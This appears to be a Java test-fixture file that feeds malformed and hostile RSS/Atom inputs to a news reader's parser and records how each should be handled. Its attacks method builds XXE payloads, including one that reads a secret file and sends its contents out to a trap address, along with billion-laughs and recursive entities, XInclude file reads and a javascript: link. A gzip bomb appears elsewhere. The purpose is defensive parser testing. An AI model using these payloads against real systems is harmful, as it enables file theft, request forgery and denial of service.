package io.zenmarket.readerswriters.news.malformed;

import static io.zenmarket.readerswriters.news.malformed.Good.feed;
import static io.zenmarket.readerswriters.news.malformed.Good.item;

import io.zenmarket.readerswriters.news.malformed.Malformed.Expected;
import io.zenmarket.readerswriters.news.malformed.Malformed.Medium;
import java.net.URI;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/// Feeds that attack, lie, or are none.
///
/// @param trap an address that nobody must ask for
/// @param secret a file that nobody must read
record MalformedFeeds(URI trap, URI secret) {

    private static final long SEED = 20_240_131;

    Stream<Malformed> all() {
        return Stream.of(
                        noFeeds(),
                        attacks(),
                        encodings(),
                        characters(),
                        items(),
                        sizes(),
                        packed(),
                        Mutations.cut(Medium.FEED, "RSS", Bytes.utf8(Good.feed())),
                        Mutations.cut(Medium.FEED, "Atom", Bytes.utf8(Good.atom())),
                        Mutations.damaged(Medium.FEED, "RSS", Bytes.utf8(Good.feed()), SEED, 40),
                        Mutations.damaged(Medium.FEED, "Atom", Bytes.utf8(Good.atom()), SEED + 1, 40))
                .flatMap(malformed -> malformed);
    }

    private static Stream<Malformed> refused(Map<String, String> bodies) {
        return bodies.entrySet().stream()
                .sorted(Map.Entry.comparingByKey())
                .map(body -> Malformed.of(Medium.FEED, body.getKey(), body.getValue(), Expected.oneRefusal()));
    }

    private static Stream<Malformed> noFeeds() {
        return refused(Map.of(
                "nothing", "",
                "blanks", " \n\t ",
                "text", "Service unavailable",
                "a page", "<!DOCTYPE html><html><head><title>Sorry</title></head><body><p>Back soon<br></body></html>",
                "a page that is XML", "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body>Sorry</body></html>",
                "JSON", Good.answer(),
                "two roots", feed("") + feed(""),
                "XML of another kind", "<x><y/></x>",
                "an undeclared prefix", feed("<a:b/>"),
                "crossed tags", feed("<item><title>x</item></title>")));
    }

    private Stream<Malformed> attacks() {
        String laughs = IntStream.range(1, 10)
                .mapToObj(i -> "<!ENTITY l" + i + " \"" + ("&l" + (i - 1) + ";").repeat(10) + "\">")
                .collect(Collectors.joining("", "<!ENTITY l0 \"ha\">", ""));
        return Stream.concat(
                refused(Map.of(
                        "XXE of a file", entity("<!ENTITY x SYSTEM \"" + secret + "\">", "&x;"),
                        "XXE of an address", entity("<!ENTITY x SYSTEM \"" + trap + "\">", "&x;"),
                        "XXE of a public name", entity("<!ENTITY x PUBLIC \"-//X\" \"" + trap + "\">", "&x;"),
                        "XXE of a parameter", entity("<!ENTITY % x SYSTEM \"" + trap + "\"> %x;", "x"),
                        "XXE in two steps",
                                entity(
                                        "<!ENTITY % f SYSTEM \"" + secret
                                                + "\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '" + trap
                                                + "?%f;'>\"> %e; %s;",
                                        "x"),
                        "a billion laughs", entity(laughs, "&l9;"),
                        "an entity of a megabyte, often",
                                entity("<!ENTITY x \"" + "x".repeat(1 << 20) + "\">", "&x;".repeat(10_000)),
                        "an entity of itself", entity("<!ENTITY x \"&x;\">", "&x;"),
                        "a document type elsewhere", "<!DOCTYPE rss SYSTEM \"" + trap + "\">" + body(Good.feed()),
                        "a document type of no use", "<!DOCTYPE rss>" + body(Good.feed()))),
                read(Map.of(
                        "an included file", item(included(secret), Good.time()),
                        "an included address", item(included(trap), Good.time()),
                        "a link to a script",
                                item("x", Good.time()).replace("https://wire.example/1", "javascript:alert(1)"),
                        "a style sheet", "<?xml-stylesheet href=\"" + trap + "\"?>" + item("x", Good.time()),
                        "a schema",
                                item("x", Good.time())
                                        .replace(
                                                "<item>",
                                                "<item xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\" i:noNamespaceSchemaLocation=\""
                                                        + trap + "\">"),
                        "a source elsewhere",
                                item("x", Good.time()).replace("</item>", "<source url=\"" + trap + "\"/></item>"),
                        "markup that loads", item("&lt;img src=\"" + trap + "\"&gt;x", Good.time()))));
    }

    private static String included(URI address) {
        return "x<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"" + address + "\"/>";
    }

    private static Stream<Malformed> read(Map<String, String> middles) {
        return middles.entrySet().stream()
                .sorted(Map.Entry.comparingByKey())
                .map(middle ->
                        Malformed.of(Medium.FEED, middle.getKey(), feed(middle.getValue()), Expected.middleEither()));
    }

    private static String entity(String declarations, String title) {
        return "<?xml version=\"1.0\"?><!DOCTYPE rss [" + declarations + "]>" + body(feed(item(title, Good.time())));
    }

    private static String body(String feed) {
        return feed.substring(feed.indexOf('\n') + 1);
    }

    private static Stream<Malformed> encodings() {
        String accented = feed(item("Caf\u00e9", Good.time()));
        Stream<Malformed> without = Stream.of("UTF-16LE", "UTF-16BE", "UTF-32LE", "UTF-32BE", "IBM1047", "UTF-16")
                .map(name -> Malformed.of(
                        Medium.FEED,
                        "told UTF-8, is " + name,
                        accented.getBytes(Charset.forName(name)),
                        Expected.either()));
        Stream<Malformed> told = Stream.of("UTF-16", "UTF-32", "ISO-8859-1", "US-ASCII", "IBM1047", "UTF-7", "none", "")
                .map(name -> Malformed.of(
                        Medium.FEED, "is UTF-8, told " + name, accented.replace("UTF-8", name), Expected.either()));
        Stream<Malformed> heads = Stream.of("UTF-16", "nonsense", "\"", "utf-8; charset=x")
                .map(name -> Malformed.of(Medium.FEED, "head told " + name, accented, Expected.either())
                        .with("Content-Type", "text/xml; charset=" + name));
        Malformed latin = Malformed.of(
                Medium.FEED,
                "told UTF-8, is Latin-1",
                accented.getBytes(StandardCharsets.ISO_8859_1),
                Expected.middleRead());
        return Stream.of(without, told, heads, Stream.of(latin)).flatMap(each -> each);
    }

    private static Stream<Malformed> characters() {
        Stream<Malformed> raw = Absurd.controls().stream()
                .map(c -> Malformed.of(
                        Medium.FEED,
                        "control character " + (int) c,
                        feed(item("x" + c + "y", Good.time())),
                        Expected.middleRead()));
        Stream<Malformed> named = Stream.of("&#0;", "&#1;", "&#xFFFF;", "&#xD800;", "&#99999999999;", "&#xx;", "& ")
                .map(text -> Malformed.of(
                        Medium.FEED,
                        "reference " + text,
                        feed(item("x" + text + "y", Good.time())),
                        Expected.either()));
        return Stream.concat(raw, named);
    }

    private static Stream<Malformed> items() {
        Stream<Malformed> dates = Absurd.DATES.stream()
                .map(date -> Malformed.of(
                        Medium.FEED, "date " + Absurd.shown(date), feed(item("x", date)), Expected.middleEither()));
        Stream<Malformed> untitled = Stream.of("", " ", "&#160;", "&lt;b&gt;&lt;/b&gt;", "<![CDATA[]]>", "<b/>", "!?")
                .map(title -> Malformed.of(
                        Medium.FEED, "title " + title, feed(item(title, Good.time())), Expected.middleRefused()));
        Stream<Malformed> others = Stream.of(
                Malformed.of(Medium.FEED, "an item of nothing", feed("<item/>"), Expected.middleRefused()),
                Malformed.of(Medium.FEED, "no items", Good.feedOf(""), Expected.clean(0)),
                Malformed.of(
                        Medium.FEED,
                        "the same item, often",
                        feed(item("x", Good.time()).repeat(50)),
                        new Expected(52, 0, Good.OUTER)),
                Malformed.of(
                        Medium.FEED,
                        "two titles and three dates",
                        feed("<item><title>x</title><title>y</title>" + "<pubDate>1</pubDate>".repeat(3) + "</item>"),
                        Expected.middleEither()));
        return Stream.of(dates, untitled, others).flatMap(each -> each);
    }

    private static Stream<Malformed> sizes() {
        String deep = "<a>".repeat(100_000) + "</a>".repeat(100_000);
        return Stream.concat(
                refused(Map.of(
                        "100,000 elements in each other", feed(deep),
                        "300,000 elements", feed("<a/>".repeat(300_000)),
                        "300,000 attributes",
                                feed(IntStream.range(0, 300_000)
                                        .mapToObj(i -> " a" + i + "=\"\"")
                                        .collect(Collectors.joining("", "<a", "/>"))),
                        "13 MB of blanks", feed(" ".repeat(13_000_000)))),
                Stream.of(Malformed.of(
                        Medium.FEED,
                        "a title of 10 MB",
                        feed(item("x".repeat(10_000_000), Good.time())),
                        Expected.middleRefused())));
    }

    private static Stream<Malformed> packed() {
        byte[] whole = Bytes.gzip(Bytes.utf8(Good.feed()));
        return Stream.of(
                        Malformed.of(Medium.FEED, "a gzip bomb", Bytes.bomb(16), Expected.oneRefusal()),
                        Malformed.of(Medium.FEED, "gzip, cut", Arrays.copyOf(whole, 100), Expected.oneRefusal()),
                        Malformed.of(Medium.FEED, "gzip, damaged", Bytes.with(whole, 40, 0), Expected.oneRefusal()),
                        Malformed.of(Medium.FEED, "told gzip, is plain", Good.feed(), Expected.oneRefusal()))
                .map(malformed -> malformed.with("Content-Encoding", "gzip"));
    }
}
